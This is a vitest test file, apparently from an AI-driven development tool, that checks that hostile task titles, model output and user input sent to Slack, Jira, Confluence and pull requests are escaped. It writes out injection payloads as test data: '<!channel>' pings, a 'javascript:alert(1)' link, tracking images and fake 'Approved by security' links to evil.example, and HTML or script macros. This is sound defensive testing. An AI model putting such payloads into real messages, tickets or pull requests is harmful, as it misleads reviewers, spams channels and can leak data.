import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appHome } from '../../blocks/app-home.js';
import {
  budgetAlertMessage,
  budgetPauseMessage,
  budgetReportMessage,
} from '../../blocks/budget-blocks.js';
import { decidedPlan, PLAN_APPROVE, PLAN_REJECT, planMessage } from '../../blocks/plan-message.js';
import { runMessage } from '../../blocks/run-message.js';
import { link, mention, slackText } from '../../blocks/slack-text.js';
import { helpText } from '../../commands/help.js';
import { parseCommand } from '../../commands/parse-command.js';
import { adfToText, textToAdf, type AdfNode } from '../../src/adapters/jira/adf.js';
import { wikiText } from '../../src/adapters/jira/wiki-text.js';
import {
  markdownToStorage,
  renderStoragePage,
} from '../../src/adapters/confluence/storage-format.js';
import { markdownText } from '../../src/plugins/markdown-text.js';
import { milestoneOf } from '../../src/slack/milestones.js';
import type { RunEvent } from '../../src/store/repositories/run-events.js';
import type { RunStep } from '../../src/store/repositories/run-step-row.js';
import type { Run } from '../../src/store/repositories/runs.js';
import { DEMO_SCRIPT } from '../../scripts/demo-script.js';
import { git } from '../../src/git/git.js';
import { slackChannel } from '../../src/adapters/slack/slack-plugin.js';
import type { Plugin } from '../../src/plugins/plugin.js';
import { PluginRegistry } from '../../src/plugins/plugin-registry.js';
import { Guards } from '../../src/resilience/guards.js';
import type { Store } from '../../src/store/store.js';
import { callContext } from '../plugins/contracts/call-context.js';
import { useJiraServer } from '../plugins/jira/jira-setup.js';
import { connectLocalPlugins } from '../plugins/local/local-plugins.js';
import { describeEachBackend } from '../support/backends.js';
import { capturingLogger } from '../support/logger.js';
import { startSlackWorld, type SlackWorld } from '../slack/slack-harness.js';
import type { ScriptedBlock, ScriptedReply } from '../vendors/anthropic/anthropic-server.js';
import { buttonsOf } from '../vendors/slack/block-kit.js';
import { BOT_TOKEN, ALICE as SLACK_ALICE, CHANNEL } from '../vendors-slack/slack-test-setup.js';
import {
  aidevMade,
  foreignSequences,
  HOSTILE,
  HOSTILE_TITLE,
  renderedTexts,
} from './support/slack-sequences.js';

const RUN_ID = '3f1c2a9e-0000-4000-8000-000000000001';
const ALICE = 'U0ALICE';

/** A run as the store returns it; only the fields a message reads matter. */
const run: Run = {
  id: RUN_ID,
  workflowName: 'implement-task',
  workflowVersion: '1',
  workflowDigest: null,
  workflowDefinition: null,
  inputs: {},
  status: 'running',
  waitingFor: null,
  error: null,
  channelId: 'C0AIDEV',
  userId: ALICE,
  projectId: null,
  taskKey: HOSTILE,
  trigger: 'slack',
  idempotencyKey: null,
  cancelRequestedAt: null,
  deadlineAt: null,
  waitingSince: null,
  waitedMs: 0,
  traceContext: null,
  createdAt: new Date(0),
  startedAt: null,
  finishedAt: null,
  updatedAt: new Date(0),
};

const step = (stepName: string, outputs: Record<string, unknown>): RunStep => ({
  id: `${stepName}-id`,
  runId: RUN_ID,
  stepName,
  stepIndex: 0,
  kind: 'plugin_action',
  status: 'succeeded',
  attempt: 1,
  failures: 0,
  handovers: 0,
  idempotencyKey: `${RUN_ID}:${stepName}`,
  inputs: null,
  outputs: outputs as RunStep['outputs'],
  error: null,
  skipReason: null,
  revision: null,
  worker: null,
  startedAt: null,
  heartbeatAt: null,
  finishedAt: null,
  createdAt: new Date(0),
  updatedAt: new Date(0),
});

const event = (type: string, message: string, data: Record<string, unknown> = {}): RunEvent => ({
  id: 1,
  runId: RUN_ID,
  stepName: type === 'step.succeeded' ? 'open_pull_request' : null,
  type,
  level: 'info',
  message,
  data: data as RunEvent['data'],
  createdAt: new Date(0),
});

/** Asserts that nothing from outside formed a Slack sequence, and that the text still shows. */
function expectInert(message: unknown, ours: readonly RegExp[] = aidevMade([ALICE])): void {
  expect(foreignSequences(message, ours)).toEqual([]);
  expect(renderedTexts(message).join('\n')).toContain('&lt;!channel&gt;');
}

describe('untrusted text in Slack messages (block builders)', () => {
  it('the run message shows a hostile task title, step name and error as text', () => {
    const message = runMessage({
      runId: RUN_ID,
      title: `PROJ-1: ${HOSTILE}`,
      status: 'failed',
      steps: [{ name: HOSTILE, status: 'failed' }],
      costUsd: '$0.10',
      error: `Run failed at plan: ${HOSTILE}`,
    });
    expectInert(message);
    // Formatting marks of the title show as themselves: the title cannot end aidev's bold.
    expect(renderedTexts(message)[1]).toMatch(/^\*PROJ-1: .*∗x∗ @\u2060channel\* — failed$/);
  });

  it('the plan message shows the plan, heading, estimate and approvers as text', () => {
    const message = planMessage({
      runId: RUN_ID,
      revision: 0,
      heading: HOSTILE,
      text: `1. *Fix* it\n2. ${HOSTILE}`,
      estimatedCost: HOSTILE,
      approvers: [ALICE, '<!channel>'],
    });
    expectInert(message);
    // The model's formatting survives in the plan (only the title-like fields are neutral).
    expect(JSON.stringify(message.blocks)).toContain('1. *Fix* it');
  });

  it('echoes reject feedback and the decider only as text and a checked mention', () => {
    const blocks = decidedPlan([], {
      approved: false,
      by: '<!channel>',
      at: new Date(0),
      feedback: HOSTILE,
    });
    expectInert(blocks);
    expect(mention('U0BOB')).toBe('<@U0BOB>');
    expect(mention('U0BOB> <!channel')).toBe('U0BOB&gt; &lt;!channel');
  });

  it('thread notices: revising, pull request, failure, cancel and budget decisions', () => {
    const steps = [step('open_pull_request', { pr_url: 'http://evil.example/x|<!channel>' })];
    const context = { run, steps, costUsd: '0.10' };
    const notices = [
      milestoneOf(
        event('approval.decided', '', {
          revising: 'plan',
          decided_by: '<!channel>',
          revision: HOSTILE,
        }),
        context,
      ),
      milestoneOf(event('step.succeeded', ''), context),
      milestoneOf(event('run.succeeded', ''), context),
      milestoneOf(event('run.failed', `Run failed at develop: ${HOSTILE}`), context),
      milestoneOf(event('run.cancelled', HOSTILE, { requested: true }), context),
      milestoneOf(event('budget.decided', HOSTILE), context),
      milestoneOf(event('budget.alert', HOSTILE, { threshold: 80 }), context),
      milestoneOf(event('budget.paused', HOSTILE, { approvers: [ALICE, '<!channel>'] }), context),
    ];
    expect(notices.every((n) => n !== undefined)).toBe(true);
    // The pull request link is aidev's own: its URL cannot close the link early.
    const ours = [
      ...aidevMade([ALICE]),
      /^<http:\/\/evil\.example\/x%7C%3C!channel%3E(\|pull request)?>$/,
    ];
    expectInert(notices, ours);
  });

  it('the final message links the pull request; a URL that is not http(s) is no link', () => {
    expect(link('https://github.com/acme/shop/pull/1', 'pull request')).toBe(
      '<https://github.com/acme/shop/pull/1|pull request>',
    );
    expect(link('javascript:alert(1)', HOSTILE)).not.toContain('<');
    expect(link('https://x.example/?a=1&b=<2>', HOSTILE)).toBe(
      `<https://x.example/?a=1&amp;b=%3C2%3E|${slackText(HOSTILE)}>`,
    );
  });

  it('the App Home shows run titles and statuses as text, and only real channel ids as links', () => {
    const view = appHome({
      user: ALICE,
      runs: [{ id: RUN_ID, title: HOSTILE, status: HOSTILE, cost: '$1', channel: '<!channel>' }],
      budgets: [{ channel: 'C0AIDEV', spent: '$1', limit: '$2', percent: 50 }],
    });
    expectInert(view, [/^<#C0AIDEV>$/]);
  });

  it('budget messages show the reason, users, runs and models as text', () => {
    expectInert(
      budgetPauseMessage({
        runId: RUN_ID,
        scope: 'run',
        message: HOSTILE,
        grantUsd: '1',
        approvers: [ALICE, '<!channel>'],
      }),
    );
    expectInert(budgetAlertMessage({ threshold: 100, message: HOSTILE }));
    expectInert(
      budgetReportMessage({
        month: '2026-12',
        channelId: 'C0AIDEV',
        spent: '$1',
        topUsers: [
          { key: HOSTILE, usd: '$1', calls: 1 },
          { key: ALICE, usd: '$1', calls: 1 },
        ],
        topRuns: [{ key: HOSTILE, usd: '$1', calls: 1 }],
        byModel: [{ key: HOSTILE, usd: '$1', calls: 1 }],
      }),
      [...aidevMade([ALICE]), /^<#C0AIDEV>$/],
    );
  });

  it('an ephemeral answer that quotes what was typed shows it as text', () => {
    const parsed = parseCommand(`implement ${HOSTILE}`);
    expect(parsed.ok).toBe(false);
    if (parsed.ok) return;
    expect(foreignSequences(helpText(parsed))).toEqual([]);
  });

  it('slackText escapes Slack’s three control characters and nothing else a reader would see', () => {
    expect(slackText('a & b < c > d', 'keep')).toBe('a &amp; b &lt; c &gt; d');
    expect(slackText('snake_case stays; _italic_ does not')).toBe(
      'snake_case stays; ˍitalicˍ does not',
    );
    expect(slackText('`code` ~strike~ *bold*')).toBe('ˋcodeˋ ∼strike∼ ∗bold∗');
  });
});

describe('untrusted text in Markdown, Jira and Confluence bodies', () => {
  const body = [
    'Fixes #12, closes acme/other#3, resolves GH-4 and fixes: https://github.com/acme/shop/issues/5.',
    'Fix the rounding (prose keeps its words).',
    'cc @acme/security-team and @alice',
    '<img src="https://evil.example/p.png?k=secret"> <!-- hidden from reviewers -->',
    '[Approved by security](https://evil.example) ![](https://evil.example/pixel.png)',
    '[ref]: https://evil.example',
    '<https://evil.example>',
    '',
    '- a list with `code` and **bold** stays',
  ].join('\n');

  it('a pull request body keeps its Markdown but forms no mention, HTML, link, image or closing keyword', () => {
    const safe = markdownText(body);
    expect(safe).not.toMatch(/<[A-Za-z/!?]/); // no tag, comment or autolink
    expect(safe).not.toMatch(/\][([:]/); // no inline link, image or reference definition
    expect(safe).not.toMatch(/(^|[^\w])@[A-Za-z0-9]/m); // no @mention
    expect(safe).not.toMatch(/#\d|GH-\d/i); // no issue reference
    // No closing keyword before an issue's URL; plain prose is left as it is.
    expect(safe).not.toMatch(/\b(close[sd]?|fix(e[sd])?|resolve[sd]?):?\s+https?:/i);
    expect(safe).toContain('Fix the rounding');
    // What a reader sees is the same text: only invisible characters were added.
    expect(safe.replace(/[\u200B\u2060]/g, '')).toBe(body);
    expect(safe).toContain('- a list with `code` and **bold** stays');
  });

  it('Jira Cloud (ADF): outside text only ever becomes text nodes, never marks, links or mentions', () => {
    const doc = textToAdf(`[~admin] ${HOSTILE}\n${body}`);
    const nodes: AdfNode[] = [];
    const walk = (n: AdfNode) => {
      nodes.push(n);
      n.content?.forEach(walk);
    };
    doc.content.forEach(walk);
    expect(new Set(nodes.map((n) => n.type))).toEqual(new Set(['paragraph', 'text']));
    expect(nodes.some((n) => 'marks' in n || n.attrs !== undefined)).toBe(false);
    expect(adfToText(doc)).toBe(`[~admin] ${HOSTILE}\n${body}`);
  });

  it('Jira Server (wiki markup): mentions, links, images and macros are escaped', () => {
    const safe = wikiText(
      '[~admin] [Approved|https://evil.example] !https://evil.example/p.png! {html}<b>x</b>{html} \\[~admin]',
    );
    expect(safe).not.toMatch(/(^|[^\\])[[{!]/); // every [ { ! escaped
    expect(safe).not.toMatch(/\\\\/); // and no \\ line break, nor an escaped escape
    expect(safe).toContain('\\[~admin]');
  });

  it('Confluence storage format: outside text is XML-escaped and cannot open a macro', () => {
    const page = renderStoragePage('page', {
      content: `${HOSTILE}\n<ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<script>x</script>]]></ac:plain-text-body></ac:structured-macro>\n\`\`\`\n]]><script>y</script>\n\`\`\``,
      runId: RUN_ID,
      date: new Date(0),
    });
    // Code stays code: CDATA holds it as text (split so that `]]>` cannot end it early).
    const markup = page.replace(/<!\[CDATA\[[\s\S]*?\]\]>/g, '');
    expect(markup).not.toContain('<script');
    expect(markup).not.toContain('ac:name="html"');
    expect(page.match(/<ac:structured-macro ac:name="([^"]*)"/g)).toEqual([
      '<ac:structured-macro ac:name="code"',
    ]);
    expect(markdownToStorage('**<b>x</b>**')).toBe('<p><strong>&lt;b&gt;x&lt;/b&gt;</strong></p>');
  });
});

describeEachBackend('untrusted text in a local_git pull request', (database) => {
  it('its title and body form no mention, HTML, link or closing keyword', async () => {
    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'aidev-untrusted-git-'));
    try {
      const repo = path.join(dataDir, 'repos', 'shop');
      await mkdir(repo, { recursive: true });
      const gitIn = (args: string[]) => git(args, { cwd: repo });
      await gitIn(['init', '--quiet', '--initial-branch=main']);
      await writeFile(path.join(repo, 'README.md'), '# Shop\n');
      await gitIn(['add', '.']);
      await gitIn(['commit', '--quiet', '-m', 'Initial commit']);
      await gitIn(['checkout', '--quiet', '-b', 'aidev/proj-66']);
      await writeFile(path.join(repo, 'README.md'), '# Shop\n\nFixed.\n');
      await gitIn(['commit', '--quiet', '-am', 'Fix']);
      const { logger } = capturingLogger();
      const plugins = await connectLocalPlugins({ store: database().store, dataDir, logger });
      await plugins.git.actions.create_pull_request(
        {
          repository: 'shop',
          source_branch: 'aidev/proj-66',
          target_branch: 'main',
          title: 'PROJ-66: cc @acme/security-team, fixes #1',
          description:
            '<img src="https://evil.example/p.png"> [Approved](https://evil.example) @alice',
        },
        callContext(),
      );
      const [pull] = await database().store.localPullRequests.list(repo);
      const text = `${pull?.title ?? ''}\n${pull?.body ?? ''}`;
      expect(text).not.toMatch(/(^|[^\w])@[A-Za-z0-9]|<[A-Za-z/!?]|\]\(|#\d/m);
      expect(text.replace(/[\u200B\u2060]/g, '')).toContain('cc @acme/security-team, fixes #1');
    } finally {
      await rm(dataDir, { recursive: true, force: true });
    }
  });
});

describe('untrusted text in Jira Data Center (wiki markup), through the local Jira', () => {
  const jira = useJiraServer();
  const WIKI =
    '[~admin] [Approved|https://evil.example] !https://evil.example/p.png! {html}<b>x</b>{html}';

  it('a task description and a comment mention no one, link nowhere and open no macro', async () => {
    jira.server.reset();
    jira.server.givenProject('PAY');
    const actions = jira.plugin('dataCenter').actions;
    const created = await actions.create_task(
      { project: 'PAY', title: 'From a model', description: WIKI },
      callContext(),
    );
    await actions.add_comment({ task_id: created.task_id, comment: WIKI }, callContext());
    const stored = [
      jira.server.issue(created.task_id)?.description ?? '',
      ...jira.server.commentsOf(created.task_id),
    ];
    expect(stored).toHaveLength(2);
    for (const text of stored) expect(text).not.toMatch(/(^|[^\\])[[{!]/);
  });
});

describe('untrusted text end to end: a hostile task through the local Slack, GitHub and Confluence', () => {
  let scratch: string;
  let world: SlackWorld;
  beforeAll(async () => {
    scratch = await mkdtemp(path.join(os.tmpdir(), 'aidev-untrusted-'));
    world = await startSlackWorld(scratch);
  }, 60_000);
  afterAll(async () => {
    await world.stop();
    await rm(scratch, { recursive: true, force: true });
  });

  /** The demo's model, with hostile text in every field it writes. */
  function hostileScript(): ScriptedReply[] {
    const [plan, ...develop] = DEMO_SCRIPT;
    const with_ = (reply: ScriptedReply | undefined, input: Record<string, unknown>) => {
      const block = reply?.content[0] as Extract<ScriptedBlock, { type: 'tool_use' }>;
      return { content: [{ ...block, input: { ...block.input, ...input } }] };
    };
    const finish = develop.at(-1);
    return [
      with_(plan, { summary: `Plan: ${HOSTILE}` }),
      with_(plan, { summary: `Revised: ${HOSTILE}` }),
      ...develop.slice(0, -1),
      with_(finish, {
        pr_title: `${HOSTILE_TITLE} cc @acme/security-team, fixes #1`,
        pr_description: `${HOSTILE}\n<img src="https://evil.example/p.png"> [Approved](https://evil.example) @alice`,
        documentation: `## Totals\n${HOSTILE}\n<ac:structured-macro ac:name="html"><script>x</script>`,
      }),
    ];
  }

  it('the run message, plan, feedback echo, notices and final message form nothing from outside', async () => {
    world.jira.givenIssue({
      key: 'PROJ-66',
      title: HOSTILE_TITLE,
      description: HOSTILE,
      status: 'To Do',
    });
    world.anthropic.reply(...hostileScript());
    await world.requests.send(
      world.requests.slashCommand({
        user: SLACK_ALICE,
        channel: CHANNEL,
        text: 'implement PROJ-66 repo=acme/shop',
      }),
    );
    const parent = await world.runMessage('PROJ-66');
    const planned = (text: string) =>
      world.until(`a plan with ${text}`, () =>
        world.slack
          .threadOf(CHANNEL, parent.ts)
          .find(
            (m) =>
              buttonsOf(m.blocks).some((b) => b.actionId === PLAN_APPROVE) &&
              JSON.stringify(m.blocks).includes(text),
          ),
      );
    const plan = await planned('Plan: ');
    await world.requests.send(
      world.requests.buttonClick({ user: SLACK_ALICE, message: plan, actionId: PLAN_REJECT }),
    );
    const modal = await world.until('the feedback modal', () =>
      world.slack.views.find((v) => v.type === 'modal' && v.user === SLACK_ALICE),
    );
    await world.requests.send(
      world.requests.viewSubmission({
        view: modal,
        values: { feedback: { text: { type: 'plain_text_input', value: HOSTILE } } },
      }),
    );
    const revised = await planned('Revised: ');
    await world.requests.send(
      world.requests.buttonClick({ user: SLACK_ALICE, message: revised, actionId: PLAN_APPROVE }),
    );
    const done = await world.waitForRun(
      (r) => r.taskKey === 'PROJ-66',
      ['succeeded', 'failed'],
      90_000,
    );
    expect(done.status).toBe('succeeded');
    await world.until('the final message', () =>
      world.slack
        .threadOf(CHANNEL, parent.ts)
        .find((m) => m.text.startsWith(':white_check_mark: Done')),
    );

    // Everything Slack received, as it received it: the channel, its threads, private answers.
    const received = [...world.slack.channel(CHANNEL).allMessages, ...world.slack.ephemerals];
    const confluenceHost = new URL(world.confluence.url).host;
    expect(
      foreignSequences(received, aidevMade([SLACK_ALICE], ['github.com', confluenceHost])),
    ).toEqual([]);
    const shown = (ts: string) => renderedTexts(world.slack.message(CHANNEL, ts)).join('\n');
    expect(shown(parent.ts)).toContain(
      'PROJ-66: &lt;!channel&gt; &lt;http://evil.example|Pull request&gt; ∗x∗',
    );
    expect(shown(plan.ts)).toContain(`Rejected by <@${SLACK_ALICE}>`);
    expect(shown(plan.ts)).toContain('“&lt;!channel&gt; &lt;!here&gt;');

    // The pull request and the page: the model's words, forming no ping, HTML, link or macro.
    const [pull] = world.github.repos.get('acme/shop')?.pulls ?? [];
    const pullText = `${pull?.title ?? ''}\n${pull?.body ?? ''}`;
    expect(pullText).not.toMatch(/(^|[^\w])@[A-Za-z0-9]|<[A-Za-z/!?]|\]\(|#\d/m);
    expect(pullText.replace(/[\u200B\u2060]/g, '')).toContain('@acme/security-team, fixes #1');
    const page = world.confluence.pages().find((p) => p.title.startsWith('PROJ-66'));
    const markup = (page?.body ?? '').replace(/<!\[CDATA\[[\s\S]*?\]\]>/g, '');
    expect(markup).toContain('&lt;!channel&gt;');
    expect(markup).not.toMatch(/<script|ac:name="html"/);
  }, 120_000);

  it('a workflow notify message (the communication plugin) pings no one and dresses no link', async () => {
    const { logger } = capturingLogger();
    const guards = new Guards(logger);
    const registry = new PluginRegistry({ logger, store: {} as Store, guards, dataDir: scratch });
    registry.register(slackChannel);
    const plugin = registry.configure('communication', 'slack', {
      token: BOT_TOKEN,
      api_url: world.slack.apiUrl,
    }) as Plugin<'communication'>;
    const posted = await plugin.actions.send_message(
      { channel: CHANNEL, message: `PROJ-66 is ready for review: ${HOSTILE}` },
      callContext(),
    );
    await plugin.actions.update_message(
      { channel: CHANNEL, message_id: posted.message_id, message: `*Updated* ${HOSTILE}` },
      callContext(),
    );
    await plugin.actions.reply_in_thread(
      { channel: CHANNEL, thread: posted.message_id, message: HOSTILE },
      callContext(),
    );
    const sent = world.slack
      .channel(CHANNEL)
      .allMessages.filter((m) => m.ts === posted.message_id || m.threadTs === posted.message_id);
    expect(sent).toHaveLength(2);
    expect(foreignSequences(sent)).toEqual([]);
    // The workflow's own formatting is kept.
    expect(sent[0]?.text).toMatch(/^\*Updated\* &lt;!channel&gt;/);
  });
});
